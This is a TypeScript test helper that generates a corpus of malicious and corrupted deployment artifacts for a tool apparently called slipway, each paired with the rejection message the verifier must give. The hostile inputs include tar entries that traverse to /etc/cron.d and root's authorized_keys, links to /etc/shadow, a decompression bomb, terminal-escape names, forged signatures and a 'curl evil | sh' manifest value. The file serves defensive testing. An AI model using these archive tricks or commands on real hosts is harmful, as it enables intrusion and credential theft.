// The hostile and broken artifacts of test/integration/hostile-artifacts.test.ts, generated
// from real ones: each case takes a valid artifact apart (tar-stream, zstd) and changes one
// thing, named for what it attacks. Where the attack is a "validly hashed but malicious"
// layer, the manifest is rehashed and a matching .sha256 written, so only the check aimed at
// that attack stands between it and a host.
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import {
  compress,
  packLayer,
  packTar,
  paxRecords,
  rawEntry,
  readLayer,
  readMembers,
  rehash,
  manifestBytes,
  totals,
  writeMembers,
  writeSidecar,
  type LayerEntry,
  type Member,
} from "./artifact-edit.js";
import type { Manifest } from "../../src/artifact/manifest.js";

export interface HostileCase {
  name: string;
  file: string;
  /** What the refusal must say (both `inspect --verify` and `deploy`). */
  expect: RegExp;
  /** Checked against the config with deploy.trusted_keys set. */
  signed?: boolean;
}

export interface Sources {
  /** Unsigned, never deployed (build id h1): what most cases start from. */
  unsigned: string;
  /** The same build signed by the trusted key, and by an untrusted one. */
  signedTrusted: string;
  signedUntrusted: string;
  /** Another build with different code (for swapped layers). */
  other: string;
}

type Sidecar = "fresh" | "keep" | "none";

/** Build every case's file under `dir` and return the list. */
export async function makeCorpus(src: Sources, dir: string): Promise<HostileCase[]> {
  const base = await readMembers(src.unsigned);
  const manifest = JSON.parse(base[0]!.data.toString()) as Manifest;
  const code = base.find((m) => m.name === "code.tar.zst")!.data;
  const venv = base.find((m) => m.name === "venv.tar.zst")!.data;
  const codeEntries = await readLayer(code, "zstd");
  const cases: HostileCase[] = [];

  const write = async (name: string, members: Member[], sidecar: Sidecar = "fresh", from = src.unsigned) => {
    const file = path.join(dir, `${name}.tar`);
    await writeMembers(file, members);
    if (sidecar === "fresh") await writeSidecar(file);
    // The original's checksum, under this file's name: as if only the artifact had been edited.
    if (sidecar === "keep") await writeFile(`${file}.sha256`, (await readFile(`${from}.sha256`, "utf8")).replace(/\s.*$/s, `  ${path.basename(file)}\n`));
    return file;
  };
  const add = async (name: string, expect: RegExp, members: Member[], opts: { sidecar?: Sidecar; signed?: boolean } = {}) => {
    cases.push({ name, expect, signed: opts.signed, file: await write(name, members, opts.sidecar) });
  };
  const members = (m: unknown, codeData = code, venvData = venv): Member[] => [
    { name: "slipway.json", data: Buffer.isBuffer(m) ? m : manifestBytes(m) },
    { name: "code.tar.zst", data: codeData },
    { name: "venv.tar.zst", data: venvData },
  ];
  /** A code layer of the real entries plus `extra`, validly hashed in a manifest with matching totals. */
  const withCode = async (
    name: string,
    expect: RegExp,
    extra: LayerEntry[],
    opts: { at?: "end" | "start"; declared?: { unpacked_size: number; files: number } } = {},
  ) => {
    const entries = opts.at === "start" ? [...extra, ...codeEntries] : [...codeEntries, ...extra];
    const data = await packLayer(entries, "zstd");
    await add(name, expect, members(rehash(manifest, "code", data, opts.declared ?? totals(entries)), data));
  };
  const file = (name: string, data = "x", mode = 0o644): LayerEntry => ({ header: { name, type: "file", mode }, data: Buffer.from(data) });
  const link = (name: string, linkname: string): LayerEntry => ({ header: { name, type: "symlink", linkname } });
  const layerPrefix = /layer code \(code\.tar\.zst\)/.source;
  const inCode = (re: RegExp) => new RegExp(`${layerPrefix} ${re.source}`);

  // Entries that would land outside the release, or be something a release must never hold.
  await withCode("absolute-path", inCode(/entry "\/etc\/cron\.d\/slipway-evil" has an absolute path/), [
    file("/etc/cron.d/slipway-evil", "* * * * * root id\n"),
  ]);
  await withCode("dotdot-path", inCode(/entry "\.\.\/\.\.\/\.\.\/root\/\.ssh\/authorized_keys" has a \.\. component/), [
    file("../../../root/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n"),
  ]);
  await withCode("symlink-out", inCode(/entry "static\/up" is a symlink to "\.\.\/\.\.\/\.\.\/\.\.\/etc", outside the layer/), [
    link("static/up", "../../../../etc"),
  ]);
  await withCode("symlink-chain-out", inCode(/entry "x" is a symlink to "s\/\.\." that resolves outside the layer/), [link("s", "."), link("x", "s/..")]);
  await withCode("symlink-absolute", inCode(/entry "passwd" is a symlink to "\/etc\/passwd", outside the layer/), [link("passwd", "/etc/passwd")]);
  await withCode("write-through-symlink", inCode(/entry "lnk\/pwned\.py" is inside "lnk", which is a symlink, not a directory/), [
    link("lnk", "hello"),
    file("lnk/pwned.py", "import os\n"),
  ]);
  await withCode("hardlink-absolute", inCode(/entry "h" is a hard link to "\/etc\/shadow", outside the layer/), [
    { header: { name: "h", type: "link", linkname: "/etc/shadow" } },
  ]);
  await withCode("hardlink-dotdot", inCode(/entry "h" is a hard link to "\.\.\/\.\.\/x", outside the layer/), [
    { header: { name: "h", type: "link", linkname: "../../x" } },
  ]);
  await withCode("device-char", inCode(/entry "null" is a device node \(character-device\)/), [
    { header: { name: "null", type: "character-device", devmajor: 1, devminor: 3, mode: 0o666 } },
  ]);
  await withCode("device-block", inCode(/entry "sda" is a device node \(block-device\)/), [
    { header: { name: "sda", type: "block-device", devmajor: 8, devminor: 0, mode: 0o660 } },
  ]);
  await withCode("fifo", inCode(/entry "pipe" is a FIFO/), [{ header: { name: "pipe", type: "fifo" } }]);
  await withCode("setuid", inCode(/entry "su" is setuid \(mode 04755\)/), [file("su", "#!/bin/sh\nid\n", 0o4755)]);
  await withCode("setgid", inCode(/entry "sg" is setgid \(mode 02755\)/), [file("sg", "#!/bin/sh\nid\n", 0o2755)]);
  await withCode("duplicate-entry", inCode(/entry "hello\/app\.py" appears twice/), [file("hello/app.py", "import os; os.system('id')\n")]);
  await withCode("control-chars-in-name", inCode(/entry "hello\/\\u001b\]0;pwned\\u0007\.py" has control characters in its name/), [
    file("hello/\u001b]0;pwned\u0007.py"),
  ]);
  await withCode("newline-in-name", inCode(/entry "a\\u000ab" has control characters in its name/), [file("a\nb")]);
  await withCode("reserved-slipway-json", inCode(/entry "slipway\.json" uses the name "slipway\.json", which the host creates itself/), [
    file("slipway.json", "{}"),
  ]);
  await withCode("reserved-virtualenv", inCode(/entry "virtualenv" uses the name "virtualenv"/), [link("virtualenv", "/tmp")]);
  await withCode(
    "pax-sparse-name",
    inCode(/entry "p" carries the pax record "GNU\.sparse\.name"/),
    [{ header: { name: "p" }, raw: paxRecords({ path: "p", "GNU.sparse.name": "../../../etc/evil" }) }, file("p")],
    { declared: { ...totals(codeEntries), files: codeEntries.length + 1, unpacked_size: totals(codeEntries).unpacked_size + 1 } },
  );
  await withCode("pax-global-header", inCode(/has a pax global header/), [{ header: { name: "g" }, raw: paxRecords({ path: "../../evil" }, "g") }], {
    at: "start",
    declared: totals(codeEntries),
  });
  await withCode("gnu-sparse-type", inCode(/entry "sp" has the tar type "unknown"/), [
    { header: { name: "sp" }, raw: rawEntry({ name: "sp", typeflag: "S" }, Buffer.from("x")) },
  ]);
  await withCode("symlink-with-data", inCode(/entry "s" is a symlink with 512 bytes of data/), [
    { header: { name: "s" }, raw: rawEntry({ name: "s", typeflag: "2", linkname: "hello", size: 512 }, Buffer.alloc(512)) },
  ]);

  // The venv: only the link to the manifest's interpreter may leave it.
  {
    const entries = [...(await readLayer(venv, "zstd")), link("bin/evil", "/bin/sh")];
    const data = await packLayer(entries, "zstd");
    await add(
      "venv-symlink-not-interpreter",
      /layer venv \(venv\.tar\.zst\) entry "bin\/evil" is a symlink to "\/bin\/sh", outside the layer \(only .*the interpreter, may be linked\)/,
      members(rehash(manifest, "venv", data, totals(entries)), code, data),
    );
  }

  // Sizes and counts: what the manifest declares must be exactly what the layer holds.
  const t = totals(codeEntries);
  await add(
    "unpacked-size-mismatch",
    inCode(new RegExp(`unpacks to ${t.unpacked_size} bytes of files, its manifest declares ${t.unpacked_size + 1}`)),
    members(rehash(manifest, "code", code, { ...t, unpacked_size: t.unpacked_size + 1 })),
  );
  await add(
    "file-count-mismatch",
    inCode(new RegExp(`has ${t.files} entries, its manifest declares ${t.files + 1}`)),
    members(rehash(manifest, "code", code, { ...t, files: t.files + 1 })),
  );
  await withCode("undeclared-extra-entry", inCode(new RegExp(`has more entries than the ${t.files} its manifest declares`)), [file("extra.py")], {
    declared: t,
  });
  {
    // 1 GiB of zeros after the real entries: compresses to a few KiB, must be cut off early.
    const head = path.join(dir, "bomb-head.tar");
    await writeFile(head, (await packTar(codeEntries)).subarray(0, -1024));
    const bomb = execFileSync("sh", ["-c", '{ cat "$1"; head -c 1073741824 /dev/zero; } | zstd -q -1 -c', "sh", head]);
    await add(
      "decompression-bomb",
      inCode(/decompresses to more than its entries account for \(over \d+ bytes\): a decompression bomb/),
      members(rehash(manifest, "code", bomb, t), bomb),
    );
    const huge = await compress(Buffer.concat([rawEntry({ name: "huge", typeflag: "0", size: 2 ** 32 }), Buffer.alloc(1 << 20)]), "zstd");
    await add(
      "bomb-declared-in-header",
      inCode(new RegExp(`entry "huge" takes the layer past the ${t.unpacked_size} unpacked bytes its manifest declares`)),
      members(rehash(manifest, "code", huge, t), huge),
    );
  }
  await add(
    "unpacked-size-over-limit",
    /slipway\.json is invalid at layers\[1\]\.unpacked_size: is more than slipway accepts \(at most 16 GiB unpacked per layer/,
    members({ ...manifest, layers: [manifest.layers[0], { ...manifest.layers[1]!, unpacked_size: 17 * 2 ** 30 }] }),
  );
  await add(
    "file-count-over-limit",
    /slipway\.json is invalid at layers\[0\]\.files: is more than slipway accepts \(at most 1000000 entries per layer/,
    members({ ...manifest, layers: [{ ...manifest.layers[0]!, files: 2_000_000 }, manifest.layers[1]] }),
  );

  // Streams that are not what they claim to be.
  {
    const cut = code.subarray(0, Math.floor(code.length / 2));
    await add("truncated-zstd", inCode(/is not valid zstd data \(truncated or corrupt\)/), members(rehash(manifest, "code", cut), cut));
    const plain = await packTar(codeEntries);
    await add("plain-tar-labelled-zstd", inCode(/is not zstd data \(it starts with [0-9a-f]{16}\)/), members(rehash(manifest, "code", plain), plain));
    const gz = await compress(plain, "gzip");
    await add("gzip-labelled-zstd", inCode(/is not zstd data \(it starts with 1f8b08/), members(rehash(manifest, "code", gz), gz));
    const garbage = await compress(randomBytes(64 * 1024), "zstd");
    await add("garbage-in-zstd", inCode(/is not a valid tar stream: Invalid tar header/), members(rehash(manifest, "code", garbage), garbage));
    const xz = { ...manifest, layers: [{ ...manifest.layers[0]!, compression: "xz" }, manifest.layers[1]] };
    await add("unknown-compression", /slipway\.json is invalid at layers\[0\]\.compression/, members(xz));
  }

  // The manifest: what it names must be what the config deploys, and well-formed.
  await add("other-root", /was built for root \/srv\/elsewhere\/hello, the config's app\.root is/, members({ ...manifest, root: "/srv/elsewhere/hello" }));
  await add("other-app", /is for app payroll, the config deploys hello/, members({ ...manifest, app: "payroll" }));
  // inspect sees the venv's link to /usr/bin/python3 no longer names the manifest's interpreter; deploy sees the config first.
  await add(
    "other-interpreter",
    /was built with the interpreter \/usr\/bin\/python3\.9, the config's app\.python is|entry "bin\/python3" is a symlink to "\/usr\/bin\/python3", outside the layer/,
    members({ ...manifest, env: { ...manifest.env, python: { ...manifest.env.python, configured: "/usr/bin/python3.9" } } }),
  );
  await add("wrong-format-version", /artifact format 2 is not supported \(this slipway reads format 1\)/, members({ ...manifest, format: 2 }));
  await add("build-id-traversal", /slipway\.json is invalid at build_id/, members({ ...manifest, build_id: "../../../etc" }));
  await add("root-with-dotdot", /slipway\.json is invalid at root/, members({ ...manifest, root: "/srv/../etc" }));
  await add("unknown-manifest-key", /slipway\.json is invalid at \(top\)/, members({ ...manifest, post_install: "curl evil | sh" }));
  await add(
    "terminal-escape-in-manifest",
    /slipway\.json is invalid at builder\.hostname: must not contain control characters/,
    members({ ...manifest, builder: { ...manifest.builder, hostname: "ci\u001b]2;owned\u0007" } }),
  );
  await add("manifest-not-json", /slipway\.json is not valid JSON/, members(Buffer.from("{ not json")));
  await add("manifest-too-large", /slipway\.json is larger than 1048576 bytes/, members(Buffer.alloc(2 * 2 ** 20, 0x20)));

  // The outer tar: members, order, types.
  const [mm, cm, vm] = members(manifest);
  await add("manifest-not-first", /the first member is "code\.tar\.zst", not slipway\.json/, [cm!, mm!, vm!]);
  await add("layers-out-of-order", /member 2 is "venv\.tar\.zst" \(file\), expected code\.tar\.zst/, [mm!, vm!, cm!]);
  await add("extra-member", /member 4 is "evil\.sh" \(file\), expected no more members/, [
    mm!,
    cm!,
    vm!,
    { name: "evil.sh", data: Buffer.from("#!/bin/sh\n") },
  ]);
  await add("missing-venv-member", /members are \[slipway\.json, code\.tar\.zst\], expected \[slipway\.json, code\.tar\.zst, venv\.tar\.zst\]/, [mm!, cm!]);
  await add("member-is-symlink", /member 2 is "code\.tar\.zst" \(symlink\)/, [
    mm!,
    { name: "code.tar.zst", data: Buffer.alloc(0), type: "symlink", linkname: "/etc/passwd" },
    vm!,
  ]);
  {
    const other = await readMembers(src.other);
    await add(
      "layer-swapped",
      inCode(/(is \d+ bytes|has sha256 [0-9a-f]{64}), the manifest says [0-9a-f]+/),
      members(manifest, other.find((m) => m.name === "code.tar.zst")!.data),
    );
  }
  {
    const file = path.join(dir, "outer-truncated.tar");
    const whole = await readFile(src.unsigned);
    await writeFile(file, whole.subarray(0, whole.length - 100_000));
    cases.push({ name: "outer-truncated", file, expect: /is not a readable slipway artifact: Unexpected end of data|layer venv .* is \d+ bytes/ });
  }

  // Signatures (checked against a config with deploy.trusted_keys = [the trusted key]).
  const signed = await readMembers(src.signedTrusted);
  const [sm, sig, sc, sv] = signed;
  const signedManifest = JSON.parse(sm!.data.toString()) as Manifest;
  await add("unsigned-when-trusted-keys-set", /is not signed, and deploy\.trusted_keys requires a signature from one of: [0-9a-f]{16}/, members(manifest), {
    signed: true,
  });
  cases.push({
    name: "signed-by-untrusted-key",
    file: src.signedUntrusted,
    signed: true,
    expect: /is signed by key [0-9a-f]{16}, which is not in deploy\.trusted_keys \([0-9a-f]{16}\)/,
  });
  await add(
    "valid-signature-over-modified-manifest",
    /the signature in slipway\.json\.sig \(key [0-9a-f]{16}\) does not match slipway\.json/,
    [{ name: "slipway.json", data: manifestBytes({ ...signedManifest, builder: { ...signedManifest.builder, hostname: "trusted-ci" } }) }, sig!, sc!, sv!],
    { signed: true },
  );
  {
    const other = await readMembers(src.other);
    const swapped = other.find((m) => m.name === "code.tar.zst")!.data;
    const otherTotals = totals(await readLayer(swapped, "zstd"));
    await add(
      "layer-swapped-and-rehashed-under-signature",
      /does not match slipway\.json/,
      [{ name: "slipway.json", data: manifestBytes(rehash(signedManifest, "code", swapped, otherTotals)) }, sig!, { name: "code.tar.zst", data: swapped }, sv!],
      { signed: true },
    );
  }
  {
    const untrusted = await readMembers(src.signedUntrusted);
    const forged = JSON.parse(untrusted[1]!.data.toString());
    const real = JSON.parse(sig!.data.toString());
    const relabelled = Buffer.from(JSON.stringify({ ...forged, key_id: real.key_id, public_key: real.public_key }, null, 2));
    await add(
      "untrusted-signature-relabelled-as-trusted",
      /does not match slipway\.json/,
      [untrusted[0]!, { name: "slipway.json.sig", data: relabelled }, untrusted[2]!, untrusted[3]!],
      { signed: true },
    );
  }
  await add(
    "signature-not-json",
    /slipway\.json\.sig is not JSON/,
    [sm!, { name: "slipway.json.sig", data: Buffer.from("-----BEGIN SIGNATURE-----") }, sc!, sv!],
    { signed: true },
  );
  await add("signature-moved-after-layers", /is not signed, and deploy\.trusted_keys requires|member 4 is "slipway\.json\.sig"/, [sm!, sc!, sv!, sig!], {
    signed: true,
  });

  // One flipped byte in each member of an otherwise valid, signed artifact (no .sha256 beside it).
  for (const [i, member] of signed.entries()) {
    const flipped = signed.map((m) => ({ ...m, data: Buffer.from(m.data) }));
    const data = flipped[i]!.data;
    data[Math.floor(data.length / 2)]! ^= 0x01;
    const expect = {
      "slipway.json": /slipway\.json/,
      "slipway.json.sig": /slipway\.json\.sig|signature/,
      "code.tar.zst": /layer code \(code\.tar\.zst\) has sha256/,
      "venv.tar.zst": /layer venv \(venv\.tar\.zst\) has sha256/,
    }[member.name]!;
    await add(`flipped-byte-in-${member.name}`, expect, flipped, { sidecar: "none", signed: true });
  }
  // And in the unsigned one's manifest with its .sha256 beside it: the checksum file catches what the schema cannot.
  {
    const data = Buffer.from(base[0]!.data.toString().replace('"hostname": "', '"hostname": "X'));
    const file = await write("edited-manifest-with-old-sha256", [{ name: "slipway.json", data }, base[1]!, base[2]!], "keep");
    cases.push({ name: "edited-manifest-with-old-sha256", file, expect: /has sha256 [0-9a-f]{64}, but .*\.sha256 says [0-9a-f]{64}/ });
  }
  return cases;
}
